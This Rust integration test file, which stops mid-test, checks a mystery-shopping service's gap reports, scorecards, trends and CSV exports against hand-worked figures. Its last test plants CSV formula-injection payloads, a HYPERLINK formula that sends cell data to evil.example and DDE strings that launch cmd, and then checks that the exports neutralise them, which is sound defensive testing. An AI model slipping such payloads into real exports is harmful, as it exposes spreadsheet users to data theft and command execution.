//! Gap reports over a known set of approved visits, every figure worked out by hand, and the
//! roll-ups moving with edits and late rejections exactly as a rebuild would have them.

mod common;

use chrono::{Datelike, Duration, Utc};
use common::{Org, TestApp};
use serde_json::{json, Value};

/// S1 (empathy, target 0.9): `greeted` yes/no (weight 1) and `friendly` 1–5 (weight 3, N/A
/// allowed). S2 (tangibles, target 0.8): `clean` yes/no, critical.
fn checklist() -> Value {
    json!({
        "format": "shopgap.checklist/v1", "name": "Visit", "channel": "in_person",
        "sections": [{"title": "All", "items": [
            {"key": "greeted", "prompt": "Greeted?", "type": "yes_no", "standard": "S1"},
            {"key": "friendly", "prompt": "Friendly?", "type": "scale", "standard": "S1", "weight": 3, "allow_na": true, "options": {"min": 1, "max": 5}},
            {"key": "clean", "prompt": "Clean?", "type": "yes_no", "standard": "S2", "critical": true},
        ]}],
        "standards_book": {"format": "shopgap.standards_book/v1", "name": "Book", "principles": [], "protocols": [],
            "standards": [
                {"code": "S1", "text": "Greet warmly", "dimension": "empathy", "channels": ["in_person"], "target": 0.9},
                {"code": "S2", "text": "Keep it clean", "dimension": "tangibles", "channels": ["in_person"], "target": 0.8},
            ]},
    })
}

struct Visit {
    submission: String,
}

/// Submits and approves one visit per answer set, all at one location (`L1` in region East).
async fn approved_visits(app: &TestApp, org: &Org, answers: &[Value]) -> Vec<Visit> {
    approved_visits_at(app, org, ("L1", "East"), answers).await
}

/// The same at a location with the given code and region.
async fn approved_visits_at(
    app: &TestApp,
    org: &Org,
    place: (&str, &str),
    answers: &[Value],
) -> Vec<Visit> {
    approved_visits_on(app, org, checklist(), place, answers).await
}

/// The same with another checklist document.
async fn approved_visits_on(
    app: &TestApp,
    org: &Org,
    checklist: Value,
    place: (&str, &str),
    answers: &[Value],
) -> Vec<Visit> {
    let (version, location) = shop_setup(app, org, checklist, place).await;
    let mut out = Vec::new();
    for answer in answers {
        out.push(approve_one(app, org, &version, &location, None, answer).await);
    }
    out
}

/// A published checklist version and a location (code, region; segment b2c), with the
/// organization's cooldown off and a minimum sample of 3: (version id, location id).
async fn shop_setup(
    app: &TestApp,
    org: &Org,
    checklist: Value,
    (code, region): (&str, &str),
) -> (Value, Value) {
    let manager = Some(org.manager.access_token.as_str());
    let version = app
        .post("/v1/checklists/import?publish=true", manager, checklist)
        .await
        .expect(201)
        .body["id"]
        .clone();
    let location = app
        .post("/v1/locations", manager, json!({"code": code, "name": format!("Branch {code}"), "region": region, "segment": "b2c", "latitude": 52.52, "longitude": 13.40, "time_zone": "Europe/Berlin", "channels": ["in_person"]}))
        .await
        .body["id"].clone();
    let org_etag = app
        .send(
            app.client
                .get(format!("{}/v1/organization", app.base))
                .bearer_auth(&org.admin.access_token),
        )
        .await
        .header("etag")
        .unwrap();
    app.send(
        app.client
            .patch(format!("{}/v1/organization", app.base))
            .bearer_auth(&org.admin.access_token)
            .header("If-Match", org_etag)
            .json(&json!({"cooldown_days": 0, "min_sample_size": 3})),
    )
    .await
    .expect(200);
    (version, location)
}

/// One visit planned, accepted, submitted and approved at `location` on checklist `version`,
/// with the assignment's `segment` when given.
async fn approve_one(
    app: &TestApp,
    org: &Org,
    version: &Value,
    location: &Value,
    segment: Option<&str>,
    answer: &Value,
) -> Visit {
    let manager = Some(org.manager.access_token.as_str());
    let shopper = Some(org.shopper.access_token.as_str());
    let mut plan = json!({"location_id": location, "checklist_version_id": version, "shopper_id": org.shopper.id,
        "window_start": (Utc::now() - Duration::days(1)).to_rfc3339(), "window_end": (Utc::now() + Duration::days(1)).to_rfc3339()});
    if let Some(segment) = segment {
        plan["segment"] = json!(segment);
    }
    let assignment = app
        .post("/v1/assignments", manager, plan)
        .await
        .expect(201)
        .body["id"]
        .as_str()
        .unwrap()
        .to_string();
    app.post(
        &format!("/v1/assignments/{assignment}/accept"),
        shopper,
        json!({}),
    )
    .await
    .expect(200);
    let id = uuid::Uuid::new_v4().to_string();
    let sent = app
        .post(
            &format!("/v1/submissions/{id}/submit"),
            shopper,
            json!({
            "assignment_id": assignment, "answers": answer,
            "visit_start": visit_start().to_rfc3339(),
            "visit_end": (visit_start() + Duration::minutes(30)).to_rfc3339()}),
        )
        .await
        .expect(200)
        .body;
    app.send(
        app.client
            .post(format!("{}/v1/submissions/{id}/approve", app.base))
            .bearer_auth(&org.manager.access_token)
            .header("If-Match", format!("\"{}\"", sent["version"]))
            .json(&json!({})),
    )
    .await
    .expect(200);
    Visit { submission: id }
}

/// When every visit made here started: 40 minutes before the first test of this binary asked.
/// One instant for the whole run, so a run that crosses midnight in Berlin cannot put a test's
/// visits on two days, or on another day than the one its ranges are built around.
fn visit_start() -> chrono::DateTime<Utc> {
    static START: std::sync::LazyLock<chrono::DateTime<Utc>> =
        std::sync::LazyLock::new(|| Utc::now() - Duration::minutes(40));
    *START
}

/// The local date (Berlin) of the visits made here.
fn visit_day() -> chrono::NaiveDate {
    visit_start()
        .with_timezone(&chrono_tz::Europe::Berlin)
        .date_naive()
}

fn close(actual: &Value, expected: f64) {
    let a = actual
        .as_f64()
        .unwrap_or_else(|| panic!("not a number: {actual}"));
    assert!((a - expected).abs() < 1e-4, "{a} is not {expected}");
}

fn row<'a>(report: &'a Value, key: &str, value: &str) -> &'a Value {
    report["rows"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r[key] == value)
        .unwrap_or_else(|| panic!("no row with {key} = {value} in {report}"))
}

async fn rollups(app: &TestApp, org: &Org) -> Vec<shopgap::reports::rollups::RollupRow> {
    let pool = app.pool.clone();
    let org = org.id.clone();
    actix_web::web::block(move || {
        shopgap::reports::rollups::all(&mut pool.get().unwrap(), &org).unwrap()
    })
    .await
    .unwrap()
}

async fn rebuilt(app: &TestApp, org: &Org) -> Vec<shopgap::reports::rollups::RollupRow> {
    let pool = app.pool.clone();
    let id = org.id.clone();
    actix_web::web::block(move || {
        let mut conn = pool.get().unwrap();
        shopgap::db::write_transaction(&mut conn, |c| {
            shopgap::reports::rollups::rebuild(c, Some(&id))
        })
        .unwrap()
    })
    .await
    .unwrap();
    rollups(app, org).await
}

#[actix_web::test]
async fn the_gap_report_matches_figures_worked_by_hand_and_follows_edits_and_rejections() {
    let app = TestApp::spawn().await;
    let org = app.seed_org("Acme").await;
    let manager = Some(org.manager.access_token.as_str());
    // v1: S1 = (1·1 + 3·1)/4 = 1, S2 = 1.
    // v2: S1 = (1·0 + 3·0.5)/4 = 0.375, S2 = 1.
    // v3: friendly N/A, so S1 = 1·1/1 = 1; clean fails: S2 = 0 and a critical failure.
    let visits = approved_visits(&app, &org, &[
        json!({"greeted": {"value": true}, "friendly": {"value": 5}, "clean": {"value": true}}),
        json!({"greeted": {"value": false}, "friendly": {"value": 3}, "clean": {"value": true}}),
        json!({"greeted": {"value": true}, "friendly": {"na": true}, "clean": {"value": false}}),
    ])
    .await;

    let report = app.get("/v1/reports/gaps", manager).await.expect(200).body;
    assert_eq!(report["min_sample_size"], 3);
    let rows = report["rows"].as_array().unwrap();
    assert_eq!(rows.len(), 2);
    // S2 first: its shortfall (0.8 - 2/3 = 0.1333) is larger than S1's (0.9 - 0.7917 = 0.1083).
    assert_eq!(rows[0]["standard"], "S2");
    let s2 = &rows[0];
    assert_eq!(s2["n"], 3);
    close(&s2["delivered"], 2.0 / 3.0);
    close(&s2["target"], 0.8);
    close(&s2["gap"], 0.8 - 2.0 / 3.0);
    // Wilson, p = 2/3, n = 3, z = 1.96: centre 1.306933/2.280533 = 0.573082, half-width
    // 1.96·sqrt(0.0740741 + 0.1067111)/2.280533 = 0.365427.
    close(&s2["ci_low"], 0.207655);
    close(&s2["ci_high"], 0.938509);
    assert_eq!(s2["significant"], false);
    assert_eq!(s2["reliable"], true);
    assert_eq!(s2["dimension"], "tangibles");
    assert_eq!(s2["standard_text"], "Keep it clean");
    let s1 = row(&report, "standard", "S1");
    // delivered (1 + 0.375 + 1)/3 = 0.791667; Wilson centre 1.431933/2.280533 = 0.627895,
    // half-width 1.96·sqrt(0.0549769 + 0.1067111)/2.280533 = 0.345588.
    close(&s1["delivered"], 0.791_666_7);
    close(&s1["gap"], 0.9 - 0.791_666_7);
    close(&s1["ci_low"], 0.282307);
    close(&s1["ci_high"], 0.973483);

    // By dimension: the same values, the dimension's target the mean of its standards'.
    let by_dimension = app
        .get("/v1/reports/gaps?group_by=dimension", manager)
        .await
        .expect(200)
        .body;
    let empathy = row(&by_dimension, "dimension", "empathy");
    close(&empathy["delivered"], 0.791_666_7);
    close(&empathy["target"], 0.9);
    // By standard and month: the visits' local month in Berlin.
    let month = visit_day().format("%Y-%m").to_string();
    let by_month = app
        .get(
            "/v1/reports/gaps?group_by=standard,month&standard=S1",
            manager,
        )
        .await
        .expect(200)
        .body;
    assert_eq!(by_month["rows"].as_array().unwrap().len(), 1);
    assert_eq!(by_month["rows"][0]["period"], month);
    // A period with no visits, and a filter that matches nothing, are empty, not errors.
    let empty = app
        .get("/v1/reports/gaps?from=2020-01-01&to=2020-12-31", manager)
        .await
        .expect(200)
        .body;
    assert!(empty["rows"].as_array().unwrap().is_empty());
    let today = visit_day();
    let ranged = app
        .get(
            &format!(
                "/v1/reports/gaps?from={}&to={}&region=East&group_by=standard,location",
                today - Duration::days(40),
                today
            ),
            manager,
        )
        .await
        .expect(200)
        .body;
    assert_eq!(row(&ranged, "standard", "S1")["n"], 3);
    assert_eq!(row(&ranged, "standard", "S1")["location_code"], "L1");
    let elsewhere = app
        .get("/v1/reports/gaps?region=West", manager)
        .await
        .expect(200)
        .body;
    assert!(elsewhere["rows"].as_array().unwrap().is_empty());
    // CSV by parameter or by Accept.
    let csv = app
        .send(
            app.client
                .get(format!("{}/v1/reports/gaps", app.base))
                .bearer_auth(&org.manager.access_token)
                .header("accept", "text/csv"),
        )
        .await;
    assert_eq!(csv.status, 200);
    assert!(csv.header("content-type").unwrap().starts_with("text/csv"));
    let text = app
        .get_text("/v1/reports/gaps.csv", &org.manager.access_token)
        .await;
    let lines: Vec<&str> = text.lines().collect();
    assert!(lines[0].starts_with("standard,standard_text,dimension"));
    assert!(lines[1].starts_with("S2,Keep it clean,tangibles"));
    assert_eq!(lines.len(), 3);
    // Bad groupings and ranges are named.
    for bad in [
        "group_by=location",
        "group_by=standard,dimension",
        "group_by=standard,month,week",
        "group_by=colour",
        "from=2026-02-01&to=2026-01-01",
    ] {
        app.get(&format!("/v1/reports/gaps?{bad}"), manager)
            .await
            .expect_problem(422);
    }
    // A value outside a parameter's enumeration, or a date that is not one, is named.
    for (bad, field) in [("channel=fax", "channel[0]"), ("from=yesterday", "from")] {
        let problem = app
            .get(&format!("/v1/reports/gaps?{bad}"), manager)
            .await
            .expect_problem(422);
        assert_eq!(problem.body["errors"][0]["field"], field);
    }
    // `format` is gone: CSV has its own operations (and `Accept: text/csv` still works).
    app.get("/v1/reports/gaps?format=csv", manager)
        .await
        .expect_problem(400);
    assert_eq!(rollups(&app, &org).await, rebuilt(&app, &org).await);

    // A reviewer corrects v2's greeting: S1 for v2 becomes (1 + 1.5)/4 = 0.625.
    let v2 = &visits[1].submission;
    let current = app
        .get(&format!("/v1/submissions/{v2}"), manager)
        .await
        .expect(200)
        .body;
    app.send(
        app.client
            .post(format!("{}/v1/submissions/{v2}/edits", app.base))
            .bearer_auth(&org.manager.access_token)
            .header("If-Match", format!("\"{}\"", current["version"]))
            .json(&json!({"item_key": "greeted", "answer": {"value": true}, "reason": "the recording shows a greeting"})),
    )
    .await
    .expect(200);
    let report = app.get("/v1/reports/gaps", manager).await.expect(200).body;
    close(
        &row(&report, "standard", "S1")["delivered"],
        (1.0 + 0.625 + 1.0) / 3.0,
    );
    assert_eq!(row(&report, "standard", "S1")["n"], 3);
    let before_rejection = rollups(&app, &org).await;
    assert_eq!(before_rejection, rebuilt(&app, &org).await);

    // v3 turns out to be fabricated: rejected after approval, it leaves every figure.
    let v3 = &visits[2].submission;
    let current = app
        .get(&format!("/v1/submissions/{v3}"), manager)
        .await
        .expect(200)
        .body;
    app.send(
        app.client
            .post(format!("{}/v1/submissions/{v3}/reject", app.base))
            .bearer_auth(&org.manager.access_token)
            .header("If-Match", format!("\"{}\"", current["version"]))
            .json(&json!({"comment": "the shopper was not there"})),
    )
    .await
    .expect(200);
    let report = app.get("/v1/reports/gaps", manager).await.expect(200).body;
    let s1 = row(&report, "standard", "S1");
    assert_eq!(s1["n"], 2);
    close(&s1["delivered"], (1.0 + 0.625) / 2.0);
    assert_eq!(s1["reliable"], false);
    let s2 = row(&report, "standard", "S2");
    close(&s2["delivered"], 1.0);
    close(&s2["gap"], -0.2);
    assert_eq!(s2["significant"], false);
    let after = rollups(&app, &org).await;
    assert_ne!(after, before_rejection);
    assert_eq!(after, rebuilt(&app, &org).await);
    // The visit cell of the critical failure is gone with it.
    assert!(after
        .iter()
        .filter(|r| r.subject == "visit")
        .all(|r| r.critical_failures == 0 && r.n == 2));

    // The analysts' export: the two approved visits, one line per answer, edits applied.
    let export = app
        .client
        .get(format!("{}/v1/exports/submissions", app.base))
        .bearer_auth(&org.manager.access_token)
        .send()
        .await
        .unwrap();
    assert!(export.headers()["content-type"]
        .to_str()
        .unwrap()
        .starts_with("text/csv"));
    let text = export.text().await.unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert!(lines[0].starts_with("submission_id,assignment_id,location_code"));
    assert_eq!(lines.len(), 1 + 2 * 3, "{text}");
    let edited: Vec<&&str> = lines.iter().filter(|l| l.ends_with(",true")).collect();
    assert_eq!(edited.len(), 1, "{text}");
    assert!(
        edited[0].contains(&format!("{v2},")) && edited[0].contains(",greeted,true,false,,true")
    );
    let none = app
        .client
        .get(format!(
            "{}/v1/exports/submissions?from=2020-01-01&to=2020-01-31",
            app.base
        ))
        .bearer_auth(&org.manager.access_token)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert_eq!(none.lines().count(), 1);

    // Shoppers see no report; another tenant sees its own, empty one.
    app.get("/v1/reports/gaps", Some(&org.shopper.access_token))
        .await
        .expect_problem(403);
    let rival = app.seed_org("Rival").await;
    let theirs = app
        .get("/v1/reports/gaps", Some(&rival.manager.access_token))
        .await
        .expect(200)
        .body;
    assert!(theirs["rows"].as_array().unwrap().is_empty());
}

#[actix_web::test]
async fn scorecard_ranking_and_trend_match_figures_worked_by_hand() {
    let app = TestApp::spawn().await;
    let org = app.seed_org("Acme").await;
    let manager = Some(org.manager.access_token.as_str());
    // L1 (East): visit scores 100 and (0 + 1.5 + 1)/5 = 50; S1 1 and 0.375.
    let good =
        json!({"greeted": {"value": true}, "friendly": {"value": 5}, "clean": {"value": true}});
    let so_so =
        json!({"greeted": {"value": false}, "friendly": {"value": 3}, "clean": {"value": true}});
    approved_visits_at(&app, &org, ("L1", "East"), &[good, so_so]).await;
    // L2 (East): raw (1 + 0)/2 = 50, but the critical item failed: visit score 0.
    let critical =
        json!({"greeted": {"value": true}, "friendly": {"na": true}, "clean": {"value": false}});
    approved_visits_at(&app, &org, ("L2", "East"), &[critical]).await;
    // L3 (West): (1 + 3·0.75 + 1)/5 = 85.
    let fine =
        json!({"greeted": {"value": true}, "friendly": {"value": 4}, "clean": {"value": true}});
    approved_visits_at(&app, &org, ("L3", "West"), &[fine]).await;
    let locations = app.get("/v1/locations?q=L", manager).await.expect(200).body;
    let id_of = |code: &str| {
        locations["items"]
            .as_array()
            .unwrap()
            .iter()
            .find(|l| l["code"] == code)
            .unwrap()["id"]
            .as_str()
            .unwrap()
            .to_string()
    };

    let card = app
        .get(
            &format!("/v1/reports/scorecard?location_id={}", id_of("L1")),
            manager,
        )
        .await
        .expect(200)
        .body;
    assert_eq!(card["location"]["code"], "L1");
    assert_eq!(card["visit_score"]["n"], 2);
    close(&card["visit_score"]["mean"], 75.0);
    // Wilson, p = 0.75, n = 2: centre 1.7104/2.9208 = 0.585593, half-width
    // 1.96·sqrt(0.09375 + 0.2401)/2.9208 = 0.387731; on the 0–100 scale.
    close(&card["visit_score"]["ci_low"], 19.7862);
    close(&card["visit_score"]["ci_high"], 97.3324);
    assert_eq!(card["critical_failures"], 0);
    assert_eq!(card["distribution"], json!([0, 0, 0, 0, 0, 1, 0, 0, 0, 1]));
    assert_eq!(card["region_visit_score"]["n"], 3);
    close(&card["region_visit_score"]["mean"], 50.0);
    assert_eq!(card["organization_visit_score"]["n"], 4);
    close(&card["organization_visit_score"]["mean"], 58.75);
    assert_eq!(card["standards"][0]["standard"], "S1");
    close(&card["standards"][0]["delivered"], 0.6875);
    close(&card["standards"][0]["gap"], 0.2125);
    let l2 = app
        .get(
            &format!("/v1/reports/scorecard?location_id={}", id_of("L2")),
            manager,
        )
        .await
        .expect(200)
        .body;
    assert_eq!(l2["critical_failures"], 1);
    assert_eq!(l2["distribution"][0], 1);
    app.get(
        &format!("/v1/reports/scorecard?location_id={}", uuid::Uuid::new_v4()),
        manager,
    )
    .await
    .expect_problem(404);

    // Ranking by visit score, best first; by a standard, ties by code.
    let ranking = app
        .get("/v1/reports/ranking", manager)
        .await
        .expect(200)
        .body;
    let codes: Vec<&str> = ranking["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["location_code"].as_str().unwrap())
        .collect();
    assert_eq!(codes, ["L3", "L1", "L2"]);
    assert_eq!(ranking["by"], "visit_score");
    close(&ranking["rows"][0]["value"], 85.0);
    assert_eq!(ranking["rows"][2]["rank"], 3);
    let east = app
        .get("/v1/reports/ranking?region=East", manager)
        .await
        .expect(200)
        .body;
    assert_eq!(east["rows"].as_array().unwrap().len(), 2);
    let by_s2 = app
        .get("/v1/reports/ranking?standard=S2", manager)
        .await
        .expect(200)
        .body;
    let codes: Vec<&str> = by_s2["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["location_code"].as_str().unwrap())
        .collect();
    assert_eq!(codes, ["L1", "L3", "L2"]);
    close(&by_s2["rows"][2]["gap"], 0.8);
    close(&by_s2["target"], 0.8);
    for (path, header, lines) in [
        (
            "/v1/reports/ranking.csv",
            "rank,location_id,location_code",
            4,
        ),
        ("/v1/reports/trend.csv", "period,n,delivered,gap,change", 13),
        ("/v1/reports/self-assessment.csv", "", 0),
    ] {
        let text = app
            .client
            .get(format!("{}{path}", app.base))
            .bearer_auth(&org.manager.access_token)
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(text.starts_with(header), "{path}: {text}");
        assert_eq!(text.lines().count(), lines, "{path}: {text}");
    }

    // Trend: twelve months of the visit score, only the visits' month filled.
    let to = visit_day();
    let trend = app
        .get(&format!("/v1/reports/trend?to={to}"), manager)
        .await
        .expect(200)
        .body;
    let points = trend["points"].as_array().unwrap();
    assert_eq!(points.len(), 12);
    assert_eq!(points[11]["period"], to.format("%Y-%m").to_string());
    assert_eq!(points[11]["n"], 4);
    close(&points[11]["delivered"], 58.75);
    // Wilson at p = 0.5875, n = 4, z = 1.96, worked by hand: (0.197414, 0.891854), on the
    // 0-100 scale.
    close(&points[11]["ci_low"], 19.741376);
    close(&points[11]["ci_high"], 89.185374);
    assert!(points[10]["ci_low"].is_null() && points[10]["ci_high"].is_null());
    assert!(points[10]["delivered"].is_null() && points[11]["change"].is_null());
    // By ISO week for one standard at one location, with its gap.
    let weekly = app
        .get(
            &format!(
                "/v1/reports/trend?standard=S1&location_id={}&grain=week&from={}&to={to}",
                id_of("L1"),
                to - Duration::days(14)
            ),
            manager,
        )
        .await
        .expect(200)
        .body;
    let last = weekly["points"].as_array().unwrap().last().unwrap().clone();
    let week = to.iso_week();
    assert_eq!(
        last["period"],
        format!("{}-W{:02}", week.year(), week.week())
    );
    close(&last["delivered"], 0.6875);
    close(&last["gap"], 0.2125);
    close(&weekly["target"], 0.9);
    for bad in [
        "grain=day",
        "standard=S1&dimension=empathy",
        "from=2026-05-01&to=2026-01-01",
    ] {
        app.get(&format!("/v1/reports/trend?{bad}"), manager)
            .await
            .expect_problem(422);
    }
    app.get("/v1/reports/trend", Some(&org.shopper.access_token))
        .await
        .expect_problem(403);
}

/// The three visits of the first test, worked by hand there: all yes; greeted no and friendly 3;
/// friendly N/A and clean failed (a critical failure).
fn three_visits() -> [Value; 3] {
    [
        json!({"greeted": {"value": true}, "friendly": {"value": 5}, "clean": {"value": true}}),
        json!({"greeted": {"value": false}, "friendly": {"value": 3}, "clean": {"value": true}}),
        json!({"greeted": {"value": true}, "friendly": {"na": true}, "clean": {"value": false}}),
    ]
}

/// Reports read a partly covered month either as its days inside the range or as the whole
/// month less the days outside it, whichever is fewer cells. Either way a range counts exactly
/// the visits on its days: here three visits on one day (`today`, the visits' day in Berlin),
/// and ranges that end just before it, start just after it, or hold it, at many distances, for
/// the gap report (by month and in total), the trend by week and the ranking.
#[actix_web::test]
async fn a_range_counts_exactly_the_visits_on_its_days_however_its_edge_months_are_read() {
    let app = TestApp::spawn().await;
    let org = app.seed_org("Acme").await;
    let manager = Some(org.manager.access_token.as_str());
    approved_visits(&app, &org, &three_visits()).await;
    let today = visit_day();
    let counted = |report: &Value| -> i64 {
        report["rows"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|r| r["standard"] == "S2")
            .map(|r| r["n"].as_i64().unwrap())
            .sum()
    };
    let mut ranges = Vec::new();
    for days in [1, 2, 3, 5, 9, 13, 17, 20, 24, 27, 30, 45, 75] {
        ranges.push((today - Duration::days(days), today - Duration::days(1), 0));
        ranges.push((today + Duration::days(1), today + Duration::days(days), 0));
        ranges.push((today - Duration::days(days), today, 3));
        ranges.push((today, today + Duration::days(days), 3));
        ranges.push((
            today - Duration::days(days),
            today + Duration::days(days),
            3,
        ));
    }
    for (from, to, expected) in ranges {
        for grouping in ["standard", "standard,month", "standard,week"] {
            let report = app
                .get(
                    &format!("/v1/reports/gaps?from={from}&to={to}&group_by={grouping}"),
                    manager,
                )
                .await
                .expect(200)
                .body;
            assert_eq!(counted(&report), expected, "{from}..{to} by {grouping}");
            // No group is left with nothing, or less than nothing, after a subtraction.
            assert!(report["rows"]
                .as_array()
                .unwrap()
                .iter()
                .all(|r| r["n"].as_i64().unwrap() > 0));
        }
        let trend = app
            .get(
                &format!("/v1/reports/trend?grain=week&from={from}&to={to}"),
                manager,
            )
            .await
            .expect(200)
            .body;
        let points = trend["points"].as_array().unwrap();
        let n: i64 = points.iter().map(|p| p["n"].as_i64().unwrap()).sum();
        assert_eq!(n, expected, "trend {from}..{to}");
        assert!(points.iter().all(|p| p["n"].as_i64().unwrap() >= 0));
        let ranking = app
            .get(&format!("/v1/reports/ranking?from={from}&to={to}"), manager)
            .await
            .expect(200)
            .body;
        let n: i64 = ranking["rows"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r["n"].as_i64().unwrap())
            .sum();
        assert_eq!(n, expected, "ranking {from}..{to}");
    }
}

#[actix_web::test]
async fn self_assessments_sit_beside_delivery_with_the_organization_wide_figure() {
    let app = TestApp::spawn().await;
    let org = app.seed_org("Acme").await;
    let manager = Some(org.manager.access_token.as_str());
    approved_visits(&app, &org, &three_visits()).await;
    let location = app.get("/v1/locations", manager).await.body["items"][0]["id"].clone();
    let day = visit_day();
    let period =
        json!({"period_from": day - Duration::days(10), "period_to": day + Duration::days(10)});
    let belief = |extra: Value| {
        let mut body = period.clone();
        body.as_object_mut()
            .unwrap()
            .extend(extra.as_object().unwrap().clone());
        body
    };
    // The organization believes it greets warmly 95 % of the time; then thinks better of it.
    let first = app
        .post(
            "/v1/self-assessments",
            manager,
            belief(json!({"standard": "S1", "believed": 0.95})),
        )
        .await
        .expect(201)
        .body;
    let replaced = app
        .post(
            "/v1/self-assessments",
            manager,
            belief(json!({"standard": "S1", "believed": 0.97, "note": "after training"})),
        )
        .await
        .expect(200)
        .body;
    assert_eq!(replaced["id"], first["id"]);
    assert!(replaced["location_id"].is_null());
    app.post(
        "/v1/self-assessments",
        manager,
        belief(json!({"standard": "S2", "believed": 0.9, "location_id": location})),
    )
    .await
    .expect(201);
    // Doubtful input is named.
    for bad in [
        belief(json!({"standard": "S1", "believed": 1.5})),
        json!({"standard": "S1", "believed": 0.5, "period_from": day, "period_to": day - Duration::days(1)}),
        belief(json!({"standard": "S1", "believed": 0.5, "location_id": uuid::Uuid::new_v4()})),
    ] {
        app.post("/v1/self-assessments", manager, bad)
            .await
            .expect_problem(422);
    }

    let report = app
        .get("/v1/reports/self-assessment", manager)
        .await
        .expect(200)
        .body;
    let s1 = row(&report, "standard", "S1");
    // Delivered (1 + 0.375 + 1)/3 = 0.791667: believed − delivered = 0.178333, target − delivered
    // = 0.108333.
    assert_eq!(s1["n"], 3);
    close(&s1["delivered"], 0.791_666_7);
    close(&s1["self_gap"], 0.97 - 0.791_666_7);
    close(&s1["delivery_gap"], 0.9 - 0.791_666_7);
    let s2 = row(&report, "standard", "S2");
    close(&s2["delivered"], 2.0 / 3.0);
    close(&s2["self_gap"], 0.9 - 2.0 / 3.0);
    // "We think we are better than we are": (0.178333 + 0.233333)/2.
    close(
        &report["mean_self_gap"],
        ((0.97 - 0.791_666_7) + (0.9 - 2.0 / 3.0)) / 2.0,
    );

    let listed = app
        .get("/v1/self-assessments?standard=S2", manager)
        .await
        .expect(200)
        .body;
    assert_eq!(listed.as_array().unwrap().len(), 1);
    let id = listed[0]["id"].as_str().unwrap().to_string();
    app.get(
        &format!("/v1/self-assessments?from={}", day + Duration::days(30)),
        manager,
    )
    .await
    .expect(200);
    app.delete(&format!("/v1/self-assessments/{id}"), manager)
        .await
        .expect(204);
    app.delete(&format!("/v1/self-assessments/{id}"), manager)
        .await
        .expect_problem(404);
    let shopper = Some(org.shopper.access_token.as_str());
    app.post(
        "/v1/self-assessments",
        shopper,
        belief(json!({"standard": "S1", "believed": 0.5})),
    )
    .await
    .expect_problem(403);
    app.get("/v1/reports/self-assessment", shopper)
        .await
        .expect_problem(403);
}

#[actix_web::test]
async fn a_standard_delivered_perfectly_against_a_target_of_one_is_no_shortfall() {
    let app = TestApp::spawn().await;
    let org = app.seed_org("Acme").await;
    let mut doc = checklist();
    doc["standards_book"]["standards"][0]["target"] = json!(1.0);
    // Six visits all compliant on S1: the general Wilson formula puts the upper end at
    // 0.9999999999999999 for n = 6, which read as a significant shortfall against 1.0.
    let perfect =
        json!({"greeted": {"value": true}, "friendly": {"value": 5}, "clean": {"value": true}});
    approved_visits_on(&app, &org, doc, ("L1", "East"), &vec![perfect; 6]).await;
    let report = app
        .get("/v1/reports/gaps", Some(&org.manager.access_token))
        .await
        .expect(200)
        .body;
    let s1 = row(&report, "standard", "S1");
    assert_eq!(s1["n"], 6);
    assert_eq!(s1["delivered"], 1.0);
    assert_eq!(s1["ci_high"], 1.0, "{s1}");
    close(&s1["ci_low"], 6.0 / (6.0 + 1.96 * 1.96));
    assert_eq!(s1["gap"], 0.0);
    assert_eq!(s1["significant"], false, "{s1}");
}

/// The CSV a client receives, parsed as a spreadsheet would split it.
async fn csv_cells(app: &TestApp, token: &str, path: &str) -> Vec<Vec<String>> {
    let text = app.get_text(path, token).await;
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// No cell a spreadsheet would run: nothing starts with `=`, `+`, `-`, `@`, tab or CR unless
/// it is a plain number.
fn assert_no_live_formula(cells: &[Vec<String>]) {
    for cell in cells.iter().flatten() {
        let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
        assert!(
            !risky || cell.parse::<f64>().is_ok(),
            "a live formula in the CSV: {cell:?}"
        );
    }
}

#[actix_web::test]
async fn csv_exports_never_hand_a_spreadsheet_a_formula() {
    let app = TestApp::spawn().await;
    let org = app.seed_org("Acme").await;
    let manager = org.manager.access_token.as_str();
    let region = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")";
    let note = "+cmd|' /C calc'!A0";
    let comment = "@SUM(1+1)*cmd|' /C calc'!A0";
    let mut doc = checklist();
    doc["sections"][0]["items"]
        .as_array_mut()
        .unwrap()
        .push(json!({"key": "notes", "prompt": "Notes", "type": "text"}));
    let visits = approved_visits_on(
        &app,
        &org,
        doc,
        ("L1", region),
        &[json!({
            "greeted": {"value": false, "comment": comment},
            "friendly": {"value": 2},
            "clean": {"value": true},
            "notes": {"value": note},
        })],
    )
    .await;

    // The analysts' export: the shopper's text and comment, and the region.
    let export = csv_cells(&app, manager, "/v1/exports/submissions").await;
    assert_no_live_formula(&export);
    let header = &export[0];
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let notes = export
        .iter()
        .find(|line| line[column("item_key")] == "notes")
        .expect("the notes line");
    assert_eq!(notes[column("submission_id")], visits[0].submission);
    assert_eq!(notes[column("value")], format!("'{note}"));
    assert_eq!(notes[column("region")], format!("'{region}"));
    let greeted = export
        .iter()
        .find(|line| line[column("item_key")] == "greeted")
        .unwrap();
    assert_eq!(greeted[column("comment")], format!("'{comment}"));

    // Report rows: the region as a group, and negative gaps stay numbers.
    let gaps = csv_cells(
        &app,
        manager,
        "/v1/reports/gaps.csv?group_by=standard,region",
    )
    .await;
    assert_no_live_formula(&gaps);
    let region_column = gaps[0].iter().position(|h| h == "region").unwrap();
    assert!(gaps[1..]
        .iter()
        .all(|line| line[region_column] == format!("'{region}")));
    let ranking = csv_cells(&app, manager, "/v1/reports/ranking.csv").await;
    assert_no_live_formula(&ranking);
    assert_eq!(
        ranking[1][ranking[0].iter().position(|h| h == "region").unwrap()],
        format!("'{region}")
    );

    // A belief's note, in the list of beliefs as CSV.
    app.post(
        "/v1/self-assessments",
        Some(manager),
        json!({"standard": "S1", "period_from": "2026-01-01", "period_to": "2026-12-31", "believed": 0.9,
               "note": "-2+3+cmd|' /C calc'!A0"}),
    )
    .await
    .expect(201);
    let beliefs = csv_cells(&app, manager, "/v1/self-assessments.csv").await;
